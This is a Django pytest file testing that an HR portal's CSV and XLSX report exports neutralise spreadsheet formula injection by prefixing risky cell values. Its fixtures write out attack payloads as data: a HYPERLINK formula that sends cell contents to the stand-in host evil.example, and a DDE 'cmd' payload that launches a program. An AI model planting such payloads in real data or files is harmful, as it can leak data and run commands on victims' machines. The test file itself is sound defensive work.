"""Names, IDs and departments go out as inert text, never as spreadsheet formulas."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from portal.accounts.roles import HR
from portal.people.models import Department, Person
from portal.reports.exports import spreadsheet_safe
from tests.factories import make_user
from tests.portal.reports.conftest import week  # noqa: F401 (fixture)

pytestmark = pytest.mark.django_db
WEEK = {"date_from": "2026-03-02", "date_to": "2026-03-08"}
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def poisoned(week):  # noqa: F811
    obama, biden = week
    Person.objects.filter(pk=obama.pk).update(name=EVIL_NAME, employee_id="+1042")
    Person.objects.filter(pk=biden.pk).update(name="@SUM(1+1)", employee_id="-17")
    Department.objects.filter(name="Office").update(name="\tcmd|' /C calc'!A0")
    return obama, biden


@pytest.fixture
def hr(client):
    client.force_login(make_user("hr", role=HR))
    return client


def download(client, fmt):
    response = client.get(reverse("report-export", args=[fmt]), WEEK)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_spreadsheet_safe_prefixes_every_formula_start_and_nothing_else():
    for start in "=+-@\t\r":
        assert spreadsheet_safe(start + "x") == "'" + start + "x"
    assert spreadsheet_safe("Barack Obama") == "Barack Obama"
    assert spreadsheet_safe(-3) == -3  # numbers stay numbers


def test_csv_report_neutralizes_formulas(hr, poisoned):
    rows = list(csv.reader(io.StringIO(download(hr, "csv").decode())))
    cells = [cell for row in rows[1:-1] for cell in row[1:4]]
    assert "'" + EVIL_NAME in cells and "'@SUM(1+1)" in cells and "'+1042" in cells and "'-17" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_xlsx_report_has_no_live_formula(hr, poisoned):
    book = openpyxl.load_workbook(io.BytesIO(download(hr, "xlsx")))
    sheet = book.active
    values = [cell for row in sheet.iter_rows(min_row=2, max_row=sheet.max_row - 1) for cell in row[1:4]]
    assert all(cell.data_type != "f" for cell in values)
    texts = {cell.value for cell in values}
    assert "'" + EVIL_NAME in texts and "'@SUM(1+1)" in texts and "'+1042" in texts


def test_attendance_csv_neutralizes_formulas(hr, poisoned):
    response = hr.get(reverse("attendance-csv"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row[1:4]]
    assert cells and not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "'" + EVIL_NAME in cells
